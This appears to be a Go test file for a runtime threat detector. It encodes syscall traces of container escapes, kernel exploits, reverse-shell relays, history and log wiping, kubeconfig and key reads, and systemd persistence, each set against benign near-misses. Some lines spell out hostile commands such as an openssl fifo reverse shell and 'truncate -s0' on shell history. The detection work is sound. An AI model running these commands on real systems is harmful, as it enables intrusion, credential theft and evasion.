package detector

import (
	"testing"

	"vigil.dev/vigil/event"
)

// Attacks as exploit kits, red-team tools and CVE proofs of concept write
// them (issue 12, second round): each rule the default set lacked, with
// the attack's events and the everyday near-miss.

const (
	eTXTBSY     = -26
	oWrCreatNB  = 0o4101 // O_WRONLY|O_CREAT|O_NONBLOCK: coreutils truncate, shred
	renameFlags = 1      // RENAME_NOREPLACE
)

func openRet(pid uint32, path string, flags uint64, ret int64) rstep {
	return sys(pid, "openat", func(e *event.Event) {
		e.Path, e.Args[0], e.Args[2], e.Ret = path, 0xffffff9c, flags, ret
	})
}

func ftruncateOf(pid uint32, fd, size uint64) rstep {
	return sys(pid, "ftruncate", func(e *event.Event) { e.Args[0], e.Args[1] = fd, size })
}

func renameOf(pid uint32, from, to string) rstep {
	return sys(pid, "renameat2", func(e *event.Event) { e.Path, e.Path2, e.Args[4] = from, to, renameFlags })
}

func chdirOf(pid uint32, path string) rstep {
	return sys(pid, "chdir", func(e *event.Event) { e.Path = path })
}

func connectTo(pid uint32, a event.Addr) rstep {
	return sys(pid, "connect", func(e *event.Event) { e.Args[0] = 3; e.Addr = a })
}

func unixAddr(path string) event.Addr { return event.Addr{Family: event.AFUnix, Path: path} }

func init() {
	const oWronly, oRdwr = 1, 2
	for name, c := range map[string]behaviourCase{
		// CVE-2019-5736: runc's binary, open in the container as
		// /proc/PID/exe, reopened for writing through the fd link until
		// runc exits (ETXTBSY before). Writing one's own output through
		// /proc/self/fd/1 or /dev/fd/2 (tee, redirections) succeeds; a
		// write-open refused with ETXTBSY outside /proc is cp over a
		// running program of the container's own; a read-only open of
		// /proc/PID/exe is a checksum of it.
		"running-executable-write/runc": {rule: "running-executable-write",
			fire: []rstep{execOf(100, "/tmp/x/exploit"), openRet(100, "/proc/self/fd/3", oWronly, eTXTBSY),
				openRet(101, "/proc/4242/exe", oWronly, eTXTBSY), openRet(102, "/proc/self/exe", oWronly|0o1000, eTXTBSY)},
			miss: []rstep{execOf(100, "/usr/bin/tee"), openRet(100, "/proc/self/fd/1", oWronly, 3), openRet(100, "/dev/fd/2", oWrCreatTrunc, 4),
				execOf(101, "/usr/bin/cp"), openRet(101, "/usr/local/bin/app", oWrCreatTrunc, eTXTBSY),
				execOf(102, "/usr/bin/sha256sum"), openRet(102, "/proc/4242/exe", 0, 3), openRet(102, "/proc/self/exe", 0, 3)}},
		// Dirty COW writes a private read-only mapping through
		// /proc/self/mem while another thread drops it; a sampler reading
		// its own memory, and /proc/self/maps, only read
		"self-memory-write/dirtycow": {rule: "self-memory-write",
			fire: []rstep{execOf(100, "/tmp/x/cow"), openOf(100, "/proc/self/mem", oRdwr),
				execOf(101, "/tmp/x/cow"), openOf(101, "/proc/thread-self/mem", oWronly)},
			miss: []rstep{execOf(100, "/usr/bin/python3"), openOf(100, "/proc/self/mem", 0), openOf(100, "/proc/self/maps", 0),
				openOf(100, "/proc/self/fd/1", oWronly)}},
		// CVE-2024-21626: a directory fd of the host's leaked into the
		// container becomes its working directory; cd /proc/self/fd to
		// list it, or into /proc/self, is a look at the process's own table
		"cwd-through-fd-link/leaked-fd": {rule: "cwd-through-fd-link",
			fire: []rstep{execOf(100, "/bin/sh"), chdirOf(100, "/proc/self/fd/7"), execOf(101, "/bin/sh"), chdirOf(101, "/dev/fd/8")},
			miss: []rstep{execOf(100, "/bin/bash"), chdirOf(100, "/proc/self/fd"), chdirOf(100, "/proc/self"), chdirOf(100, "/tmp/work"),
				chdirOf(100, "/proc/1234")}},
		// kubeletctl, docker -H tcp://host:2375; an application talking to
		// the API server (443, 6443) or a database
		"container-api-connect/tcp": {rule: "container-api-connect",
			fire: []rstep{execOf(100, "/usr/bin/curl"), connectTo(100, inet("172.17.0.1", 2375)),
				execOf(101, "/tmp/kubeletctl"), connectTo(101, inet("10.0.0.4", 10250))},
			miss: []rstep{execOf(100, "/usr/bin/kubectl"), connectTo(100, inet("10.96.0.1", 443)), connectTo(100, inet("10.0.0.4", 6443)),
				connectTo(100, inet("10.0.0.9", 5432)), connectTo(100, unixAddr("/run/app/app.sock"))}},
		// the runtimes' sockets wherever the host's directory is mounted;
		// a socket of the application's own, a lock file beside one
		"runtime-socket-access/other-paths": {rule: "runtime-socket-access",
			fire: []rstep{execOf(100, "/usr/bin/python3"), connectTo(100, unixAddr("/run/k3s/containerd/containerd.sock")),
				execOf(101, "/usr/bin/docker"), connectTo(101, unixAddr("/host/var/run/docker.sock")),
				execOf(102, "/usr/bin/crictl"), connectTo(102, unixAddr("/var/snap/microk8s/common/run/containerd.sock"))},
			miss: []rstep{execOf(100, "/usr/bin/python3"), connectTo(100, unixAddr("/run/app/app.sock")),
				connectTo(100, unixAddr("/var/run/nscd/socket")), statOf(100, "newfstatat", "/tmp/docker.sock.lock")}},
		// truncate -s0 and shred empty a history through its fd (no
		// O_TRUNC); shred renames it away. bash saving its history writes
		// a temporary file and renames it over the history; truncate of
		// an application's own log
		"shell-history-deletion/through-fd": {rule: "shell-history-deletion",
			fire: []rstep{execOf(100, "/usr/bin/truncate", "truncate", "-s0", "/root/.bash_history"),
				openOf(100, "/root/.bash_history", oWrCreatNB), ftruncateOf(100, 3, 0),
				execOf(101, "/usr/bin/shred"), renameOf(101, "/home/u/.zsh_history", "/home/u/000000000000")},
			miss: []rstep{execOf(100, "/usr/bin/bash"), openOf(100, "/root/.bash_history-100.tmp", oWrCreatTrunc),
				renameOf(100, "/root/.bash_history-100.tmp", "/root/.bash_history"), openOf(100, "/root/.bash_history", oWrCreatNB), ftruncateOf(100, 3, 0),
				execOf(101, "/usr/bin/truncate"), openOf(101, "/tmp/app/app.log", oWrCreatNB), ftruncateOf(101, 3, 0)}},
		// truncate -s0 /var/log/auth.log; logrotate's copytruncate, a
		// rotated copy, and a file grown to a size are not
		"log-file-deletion/through-fd": {rule: "log-file-deletion",
			fire: []rstep{execOf(100, "/usr/bin/truncate"), openOf(100, "/var/log/auth.log", oWrCreatNB), ftruncateOf(100, 3, 0)},
			miss: []rstep{execOf(100, "/usr/sbin/logrotate"), openOf(100, "/var/log/app.log", oWrCreatNB), ftruncateOf(100, 3, 0),
				execOf(101, "/usr/bin/truncate"), openOf(101, "/var/log/app.log.1", oWrCreatNB), ftruncateOf(101, 3, 0),
				execOf(102, "/usr/bin/app"), openOf(102, "/var/log/app/data.bin", oWrCreatNB), ftruncateOf(102, 3, 1<<20)}},
		// revshells' relays: python Popen(["/bin/sh", "-i"], stdin=PIPE,
		// stdout=PIPE), node child_process.spawn("/bin/sh") with pipes,
		// `sh -i < fifo | openssl s_client > fifo`. Scripts pass a command
		// or a file: subprocess's shell=True (sh -c), conda's bash -ic, a
		// script run by node, a pipeline feeding a bare shell from a shell
		"shell-commands-from-stdin/relay": {rule: "shell-commands-from-stdin",
			fire: []rstep{execOf(100, "/usr/bin/python3"), vforkOf(100, 101), execOf(101, "/bin/sh", "/bin/sh", "-i"),
				execOf(200, "/usr/bin/node"), forkOf(200, 201), execOf(201, "/bin/sh", "/bin/sh"),
				execOf(300, "/usr/bin/sh", "sh", "-c", "sh -i < /tmp/f 2>&1 | openssl s_client -connect x:443 > /tmp/f"), forkOf(300, 301),
				execOf(301, "/bin/sh", "/bin/sh", "-i")},
			miss: []rstep{execOf(100, "/usr/bin/python3"), vforkOf(100, 101), execOf(101, "/bin/sh", "/bin/sh", "-c", "ls -l"),
				execOf(200, "/usr/bin/node"), forkOf(200, 201), execOf(201, "/bin/sh", "/bin/sh", "scripts/build.sh"),
				execOf(300, "/usr/bin/bash"), forkOf(300, 301), execOf(301, "/usr/bin/bash", "bash", "-ic", "conda activate base"),
				forkOf(300, 302), execOf(302, "/usr/bin/bash", "bash"), forkOf(300, 303), execOf(303, "/usr/bin/bash", "bash", "-l", "-c", "make")}},
		// Dirty Pipe: a read-only file's page spliced into a pipe filled and
		// drained before, then a write into the pipe. A server writes its
		// headers into the pipe before splicing the body and drains the
		// pipe into its socket; a proxy splices sockets; a pipe closed and
		// its number reused for a file; a new image with the fd number
		"write-after-file-splice/dirtypipe": {rule: "write-after-file-splice",
			fire: append([]rstep{execOf(100, "/tmp/x/dirtypipe"), openRet(100, "/etc/passwd", 0, 3)},
				append(pipeFill(100, 5, 4), spliceOf(100, 3, 5, 1), writeOf(100, "write", 5, 2))...),
			miss: []rstep{execOf(100, "/usr/sbin/server"), openRet(100, "/srv/www/index.html", 0, 3), writeOf(100, "write", 5, 120),
				spliceOf(100, 3, 5, 4096), spliceOf(100, 4, 6, 4216), writeOf(100, "write", 6, 2),
				execOf(200, "/usr/sbin/haproxy"), sys(200, "socket", func(e *event.Event) { e.Ret = 3 }), spliceOf(200, 3, 5, 1000), writeOf(200, "write", 5, 10),
				execOf(300, "/tmp/x/tool"), openRet(300, "/etc/hosts", 0, 3), spliceOf(300, 3, 5, 100), sys(300, "close", func(e *event.Event) { e.Args[0] = 5 }),
				openRet(300, "/tmp/out", oWrCreatTrunc, 5), writeOf(300, "write", 5, 10),
				execOf(400, "/tmp/x/tool"), openRet(400, "/etc/hosts", 0, 3), spliceOf(400, 3, 5, 100), execOf(400, "/usr/bin/cat"), writeOf(400, "write", 5, 10)}},
		// a node's kubeconfigs and keys through a host mount (Peirates,
		// kube-hunter, CTF write-ups); the CA certificate is public, the
		// static pod manifests hold no secret, kubectl reads a kubeconfig
		"cloud-credentials-read/node-kubeconfig": {rule: "cloud-credentials-read",
			fire: []rstep{execOf(100, "/usr/bin/cat"), openOf(100, "/host/etc/kubernetes/admin.conf", 0),
				execOf(101, "/usr/bin/cat"), openOf(101, "/etc/kubernetes/pki/ca.key", 0),
				execOf(102, "/usr/bin/python3"), openOf(102, "/host/var/lib/kubelet/pki/kubelet-client-current.pem", 0),
				execOf(103, "/usr/bin/base64"), openOf(103, "/etc/rancher/k3s/k3s.yaml", 0)},
			miss: []rstep{execOf(100, "/usr/bin/cat"), openOf(100, "/host/etc/kubernetes/pki/ca.crt", 0),
				openOf(100, "/host/etc/kubernetes/manifests/kube-apiserver.yaml", 0),
				execOf(101, "/usr/local/bin/kubectl"), openOf(101, "/etc/kubernetes/admin.conf", 0)}},
		// a unit written into the host's /etc/systemd/system through a
		// mount, an init script, rc.local linked; systemctl enable's
		// links, a package's unit, a unit read, a unit file in a build tree
		"init-service-write/persistence": {rule: "init-service-write",
			fire: []rstep{execOf(100, "/bin/sh"), openOf(100, "/host/etc/systemd/system/update.service", oWrCreatTrunc),
				execOf(101, "/usr/bin/cp"), openOf(101, "/etc/init.d/sshd-helper", oWrCreatTrunc),
				execOf(102, "/usr/bin/ln"), linkOf(102, "/tmp/x.sh", "/etc/rc.local"),
				execOf(103, "/usr/bin/tee"), openOf(103, "/root/.config/systemd/user/agent.service", oWrCreatTrunc)},
			miss: []rstep{execOf(100, "/usr/bin/systemctl"), linkOf(100, "/etc/systemd/system/nginx.service", "/etc/systemd/system/multi-user.target.wants/nginx.service"),
				execOf(101, "/usr/bin/dpkg"), openOf(101, "/lib/systemd/system/nginx.service.dpkg-new", oWrCreatTrunc),
				execOf(102, "/usr/bin/cat"), openOf(102, "/etc/systemd/system/app.service", 0),
				execOf(103, "/usr/bin/cp"), openOf(103, "/tmp/build/deploy/app.service", oWrCreatTrunc)}},
	} {
		behaviourCases[name] = c
	}
}

// pipeFill is the exploit's preparation: its pipe's write end w filled
// with pages and the read end r drained (every buffer then mergeable).
func pipeFill(pid uint32, w, r uint64) []rstep {
	var s []rstep
	for i := 0; i < 16; i++ {
		s = append(s, writeOf(pid, "write", w, 4096))
	}
	for i := 0; i < 16; i++ {
		s = append(s, sys(pid, "read", func(e *event.Event) { e.Args[0], e.Args[2], e.Ret = r, 4096, 4096 }))
	}
	return s
}

func spliceOf(pid uint32, in, out uint64, n int64) rstep {
	return sys(pid, "splice", func(e *event.Event) { e.Args[0], e.Args[2], e.Args[4], e.Ret = in, out, uint64(n), n })
}

// TestSelfMemoryByPid: the tracer gives the kernel's path of an open of
// /proc/self/mem, /proc/PID/mem with the pid as the kernel's namespace
// sees it; the rule judges the open by the process's own spelling when
// the kernel opened that entry, so another process's memory reached
// through /proc/self/root stays proc-memory-access's.
func TestSelfMemoryByPid(t *testing.T) {
	for _, tc := range []struct {
		name  string
		steps []rstep
		want  string
	}{
		{"own mem", []rstep{execOf(100, "/tmp/x/cow"), spelled(100, "/proc/7/mem", "/proc/self/mem", 2)}, "self-memory-write"},
		{"pid 1's mem through self/root", []rstep{execOf(100, "/tmp/x/cow"), spelled(100, "/proc/1/mem", "/proc/self/root/proc/1/mem", 2)}, "proc-memory-access"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEngine(t, Config{})
			got := rules(runSteps(t, e, 9100, tc.steps))
			if len(got) != 1 || got[0] != tc.want {
				t.Errorf("verdicts %v, want [%s]", got, tc.want)
			}
		})
	}
}

// TestShellFromStdinEachRelay: each relay's shell fires on its own: the
// interactive shell under a runtime and under a shell (busybox's shell
// applet included), the bare shell under a runtime; a bare shell under a
// shell (`echo ls | sh`), busybox's other applets and its sh -c do not.
func TestShellFromStdinEachRelay(t *testing.T) {
	for _, tc := range []struct {
		name  string
		steps []rstep
		fire  bool
	}{
		{"python popen sh -i", []rstep{execOf(100, "/usr/bin/python3"), vforkOf(100, 101), execOf(101, "/bin/sh", "/bin/sh", "-i")}, true},
		{"node spawn sh", []rstep{execOf(100, "/usr/bin/node"), forkOf(100, 101), execOf(101, "/bin/sh", "/bin/sh")}, true},
		{"fifo sh -i", []rstep{execOf(100, "/usr/bin/sh"), forkOf(100, 101), execOf(101, "/bin/bash", "bash", "-i")}, true},
		{"echo ls | sh", []rstep{execOf(100, "/usr/bin/bash"), forkOf(100, 101), execOf(101, "/bin/sh", "sh")}, false},
		{"busybox sh -i", []rstep{execOf(100, "/usr/bin/python3"), vforkOf(100, 101), execOf(101, "/bin/busybox", "busybox", "sh", "-i")}, true},
		{"alpine's sh -i (a link to busybox)", []rstep{execOf(100, "/usr/bin/node"), forkOf(100, 101), execOf(101, "/bin/sh", "/bin/sh", "-i")}, true},
		{"busybox ls -i", []rstep{execOf(100, "/usr/bin/python3"), vforkOf(100, 101), execOf(101, "/bin/busybox", "busybox", "ls", "-i")}, false},
		{"busybox sh -c", []rstep{execOf(100, "/usr/bin/python3"), vforkOf(100, 101), execOf(101, "/bin/busybox", "busybox", "sh", "-c", "ls")}, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEngine(t, Config{})
			fired := false
			for _, r := range rules(runSteps(t, e, 9200, tc.steps)) {
				fired = fired || r == "shell-commands-from-stdin"
			}
			if fired != tc.fire {
				t.Errorf("fired %v, want %v", fired, tc.fire)
			}
		})
	}
}
